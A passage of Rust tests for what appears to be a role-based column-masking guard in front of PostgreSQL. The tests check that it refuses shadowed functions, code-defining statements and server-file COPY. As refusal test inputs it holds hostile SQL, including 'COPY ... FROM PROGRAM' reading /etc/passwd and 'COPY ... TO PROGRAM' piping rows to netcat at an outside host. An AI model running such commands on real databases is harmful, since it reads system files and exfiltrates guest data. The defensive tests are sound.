                    .any(|t| table_protected(roles, &t.schema, &t.name))
        }
        ResolvedLineage::WholeRow(t) => table_protected(roles, &t.schema, &t.name),
        ResolvedLineage::Constant => false,
        ResolvedLineage::Unknown => true,
    }
}

proptest::proptest! {
    /// SPEC: for a role that sees a column masked, no value of it nor anything computed from it
    /// reaches the client in clear. Every allowed statement's fields that carry a masked column
    /// are masked or redacted, whether the server names their origin (plain columns) or not.
    #[test]
    fn allowed_statements_never_pass_masked_values_in_clear(
        shape in proptest::sample::select(SHAPES),
        items in proptest::collection::vec(proptest::sample::select(ITEMS), 1..4),
        cond in proptest::sample::select(CONDITIONS),
        preds in proptest::sample::select(&["equality", "allow", "deny"][..]),
    ) {
        let sql = shape.replace("{items}", &items.join(", ")).replace("{cond}", cond);
        let p = policy(&format!("masked_predicates = \"{preds}\""));
        let roles = p.role_set(["marketing"]);
        let snap = hotel();
        let a = analyze_one(&sql);
        let r = resolve(&a, &snap, &path());
        if let Verdict::Allow { masked } = decide(&p, &roles, &a, &r, &snap, &path()) {
            // What PostgreSQL would report: a plain column's table and number, else 0.
            let origins: Vec<(TableOid, AttNum)> = r
                .outputs
                .iter()
                .map(|o| match &o.lineage {
                    ResolvedLineage::Bare(c) => (c.table, c.attnum),
                    ResolvedLineage::Derived { .. }
                    | ResolvedLineage::WholeRow(_)
                    | ResolvedLineage::Constant
                    | ResolvedLineage::Unknown => (TableOid(0), AttNum(0)),
                })
                .collect();
            let zeros = vec![(TableOid(0), AttNum(0)); origins.len()];
            for fields in [&origins, &zeros] {
                let actions = field_actions(&roles, &snap, &a, &r, fields);
                for (o, action) in r.outputs.iter().zip(&actions) {
                    if carries_masked(&roles, &o.lineage) {
                        proptest::prop_assert_ne!(*action, FieldAction::Pass, "{}", sql);
                    }
                }
            }
            for o in &r.outputs {
                if let ResolvedLineage::Bare(c) = &o.lineage {
                    if carries_masked(&roles, &o.lineage) {
                        proptest::prop_assert!(masked.contains(&c.qualified()), "{}", sql);
                    }
                }
            }
        }
    }
}

// === holes found by the attack corpus ===

/// Decides `sql` for `login` against the hotel snapshot plus `functions` (schema, name).
fn verdict_with_functions(login: &str, functions: &[(&str, &str)], sql: &str) -> Verdict {
    let p = policy("");
    let roles = p.role_set([login]);
    let snap = hotel().with_functions(
        functions
            .iter()
            .map(|(s, n)| ((*s).to_owned(), (*n).to_owned())),
    );
    let a = analyze_one(sql);
    let r = resolve(&a, &snap, &path());
    // The path the session believes in puts pg_catalog first; the real one may not.
    decide(&p, &roles, &a, &r, &snap, &["pg_catalog".to_owned()])
}

#[test]
fn an_unqualified_builtin_shadowed_in_another_schema_is_refused() {
    let shadow = [("public", "now"), ("evil", "upper")];
    for sql in [
        "SELECT now()",
        "SELECT upper(note) FROM rooms",
        "SELECT id FROM rooms WHERE upper(note) = 'X'",
    ] {
        let v = verdict_with_functions("marketing", &shadow, sql);
        assert_eq!(v.rule(), Some(RULE_UNTRUSTED_FUNCTION), "{sql}: {v:?}");
    }
    let v = verdict_with_functions("marketing", &shadow, "SELECT now()");
    let msg = v.refusal().map(|r| r.message.clone()).unwrap_or_default();
    assert!(msg.contains("public.now"), "{msg}");
    // Qualified with pg_catalog, the built-in is what runs.
    for sql in [
        "SELECT pg_catalog.now()",
        "SELECT pg_catalog.upper(note) FROM rooms",
    ] {
        let v = verdict_with_functions("marketing", &shadow, sql);
        assert!(v.is_allowed(), "{sql}: {v:?}");
    }
    // Qualified with the other schema, it is an untrusted function as before.
    let v = verdict_with_functions("marketing", &shadow, "SELECT public.now()");
    assert_eq!(v.rule(), Some(RULE_UNTRUSTED_FUNCTION));
    // A trusted function of the same name is fine; an untrusted twin in another schema is not.
    let v = verdict_with_functions("marketing", &shadow, "SELECT safe_fn(id) FROM rooms");
    assert!(v.is_allowed(), "{v:?}");
    let v = verdict_with_functions(
        "marketing",
        &[("evil", "safe_fn")],
        "SELECT safe_fn(id) FROM rooms",
    );
    assert_eq!(v.rule(), Some(RULE_UNTRUSTED_FUNCTION), "{v:?}");
    // SQL syntax is not looked up, unless someone defined a function of that name.
    let v = verdict_with_functions("marketing", &[], "SELECT coalesce(note, '') FROM rooms");
    assert!(v.is_allowed(), "{v:?}");
    let v = verdict_with_functions(
        "marketing",
        &[("public", "coalesce")],
        "SELECT \"coalesce\"(note, '') FROM rooms",
    );
    assert_eq!(v.rule(), Some(RULE_UNTRUSTED_FUNCTION), "{v:?}");
    // A role with everything clear is not concerned.
    let v = verdict_with_functions("dba", &shadow, "SELECT now()");
    assert!(v.is_allowed());
}

#[test]
fn statements_defining_implicitly_run_code_are_refused() {
    for sql in [
        "CREATE FUNCTION public.f() RETURNS text LANGUAGE sql AS $$SELECT string_agg(phone, ',') FROM guests$$",
        "CREATE OR REPLACE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'",
        "CREATE PROCEDURE p() LANGUAGE sql AS $$SELECT 1$$",
        "ALTER FUNCTION f() SECURITY DEFINER",
        "ALTER ROUTINE f() RENAME TO g",
        "CREATE TRIGGER t BEFORE INSERT ON public.mk_t FOR EACH ROW EXECUTE FUNCTION public.mk_trg()",
        "CREATE CONSTRAINT TRIGGER t AFTER INSERT ON mk_t FOR EACH ROW EXECUTE FUNCTION f()",
        "CREATE EVENT TRIGGER e ON ddl_command_start EXECUTE FUNCTION f()",
        "ALTER EVENT TRIGGER e ENABLE",
        "CREATE RULE r AS ON INSERT TO public.mk_t DO INSTEAD SELECT upper(national_id) FROM public.guests",
        "CREATE OR REPLACE RULE r AS ON INSERT TO mk_t DO INSTEAD NOTHING",
        "CREATE OPERATOR public.= (LEFTARG = text, RIGHTARG = text, FUNCTION = public.mk_eq)",
        "CREATE AGGREGATE a (text) (SFUNC = textcat, STYPE = text)",
        "CREATE CAST (text AS int) WITH FUNCTION f(text)",
        "CREATE TRUSTED PROCEDURAL LANGUAGE plx HANDLER h",
        "CREATE TRANSFORM FOR int LANGUAGE sql (FROM SQL WITH FUNCTION f(internal))",
        "CREATE EXTENSION dblink",
        "/* c */ create   or replace function f() returns int language sql as 'select 1'",
        "ALTER TABLE mk_t ENABLE TRIGGER t",
    ] {
        let v = verdict("marketing", sql);
        assert_eq!(v.rule(), Some(RULE_CODE_DEFINITION), "{sql}: {v:?}");
        // Denied columns only: the same.
        let v = verdict("front_desk", sql);
        assert_eq!(v.rule(), Some(RULE_CODE_DEFINITION), "{sql}: {v:?}");
        assert!(verdict("dba", sql).is_allowed(), "{sql}");
    }
    for sql in [
        "CREATE TABLE public.mk_t (id int, x text DEFAULT public.mk_fn())",
        "CREATE TABLE mk_t (id int, x text DEFAULT my_fn())",
        "CREATE TABLE mk_t (x int CHECK (public.mk_notice(x)))",
        "CREATE TABLE mk_t (x int, CONSTRAINT c CHECK (my_fn(x)))",
        "CREATE TABLE mk_t (x int, y text GENERATED ALWAYS AS (my_fn(x)) STORED)",
        "ALTER TABLE mk_t ADD COLUMN y text DEFAULT my_fn()",
        "ALTER TABLE mk_t ALTER COLUMN y SET DEFAULT my_fn()",
        "ALTER TABLE mk_t ADD CONSTRAINT c CHECK (my_fn(x))",
        "ALTER TABLE mk_t ALTER COLUMN y TYPE int USING my_fn(y)",
        "CREATE INDEX ON rooms (my_fn(note))",
        "CREATE POLICY p ON rooms USING (my_fn(note))",
    ] {
        let v = verdict("marketing", sql);
        assert_eq!(v.rule(), Some(RULE_CODE_DEFINITION), "{sql}: {v:?}");
        let msg = v.refusal().map(|r| r.message.clone()).unwrap_or_default();
        assert!(msg.contains("attaches function "), "{msg}");
    }
    // Built-in and trusted functions in definitions, and definitions without code, are fine.
    for sql in [
        "CREATE TABLE mk_t (id int, at timestamptz DEFAULT now(), x text CHECK (length(x) < 9))",
        "CREATE TABLE mk_t (id int, x text DEFAULT pg_catalog.upper('a'))",
        "CREATE TABLE mk_t (id int, r int DEFAULT safe_fn(1))",
        "ALTER TABLE mk_t ADD COLUMN y text DEFAULT 'x'",
        "CREATE OR REPLACE VIEW v AS SELECT number FROM rooms",
        "CREATE TABLE mk_t (x text)",
    ] {
        let v = verdict("marketing", sql);
        assert_ne!(v.rule(), Some(RULE_CODE_DEFINITION), "{sql}: {v:?}");
    }
}

#[test]
fn copy_to_or_from_a_server_file_or_program_is_refused() {
    for sql in [
        "COPY rooms FROM '/tmp/rooms.csv'",
        "COPY rooms TO '/tmp/rooms.csv'",
        "COPY (SELECT number FROM rooms) TO '/tmp/x'",
        "COPY rooms FROM PROGRAM 'cat /etc/passwd'",
        "COPY rooms TO PROGRAM 'nc example.com 9'",
        "COPY rooms FROM '/tmp/rooms.csv' WITH (FREEZE ON, NOSUCH 1)",
    ] {
        let v = verdict("marketing", sql);
        assert_eq!(v.rule(), Some(RULE_SERVER_FILE), "{sql}: {v:?}");
        let v = verdict("front_desk", sql);
        assert_eq!(v.rule(), Some(RULE_SERVER_FILE), "{sql}: {v:?}");
        assert!(verdict("dba", sql).is_allowed(), "{sql}");
    }
    allowed("marketing", "COPY rooms FROM STDIN");
    allowed("marketing", "COPY rooms TO STDOUT");
}

#[test]
fn array_subqueries_are_syntax_not_calls() {
    // psql's `\d guests` and `\du` shapes.
    allowed(
        "marketing",
        "SELECT r.number, ARRAY(SELECT b.note FROM rooms b WHERE (b.number = r.number)) AS n \
         FROM rooms r",
    );
    allowed(
        "marketing",
        "SELECT array(SELECT number FROM rooms) AS numbers",
    );
    // The columns inside are still held to the rules.
    refused(
        "marketing",
        "SELECT ARRAY(SELECT phone FROM guests)",
        RULE_MASKED_EXPRESSION,
        Some("public.guests.phone"),
    );
    // A quoted "array" is a real call.
    let v = verdict("marketing", "SELECT \"array\"(SELECT number FROM rooms)");
    assert!(!v.is_allowed(), "{v:?}");
}

#[test]
fn from_only_and_constant_values_are_usable() {
    assert_eq!(
        masked("marketing", "SELECT phone FROM ONLY guests"),
        ["public.guests.phone"]
    );
    refused(
        "marketing",
        "SELECT upper(phone) FROM ONLY guests",
        RULE_MASKED_EXPRESSION,
        Some("public.guests.phone"),
    );
    allowed(
        "marketing",
        "SELECT g.id FROM guests g JOIN (VALUES ('0900000000')) v(p) ON g.phone = v.p",
    );
    allowed(
        "marketing",
        "SELECT g.id FROM guests g JOIN (SELECT $1::text AS p) v ON v.p = g.phone",
    );
    // A VALUES column computed from a masked column, or a LIKE, is still refused.
    for sql in [
        "SELECT g.id FROM guests g JOIN (VALUES ((SELECT national_id FROM guests WHERE id = 1))) \
         v(p) ON g.phone = v.p",
        "SELECT g.id FROM guests g JOIN (SELECT national_id AS p FROM guests) v ON g.phone = v.p",
        "SELECT g.id FROM guests g JOIN (SELECT upper(name) AS p FROM rooms) v ON v.p = g.phone",
    ] {
        assert!(!verdict("marketing", sql).is_allowed(), "{sql}");
    }
    refused(
        "marketing",
        "SELECT g.id FROM guests g JOIN (VALUES ('0987%')) v(p) ON g.phone LIKE v.p",
        RULE_MASKED_PREDICATE,
        Some("public.guests.phone"),
    );
}
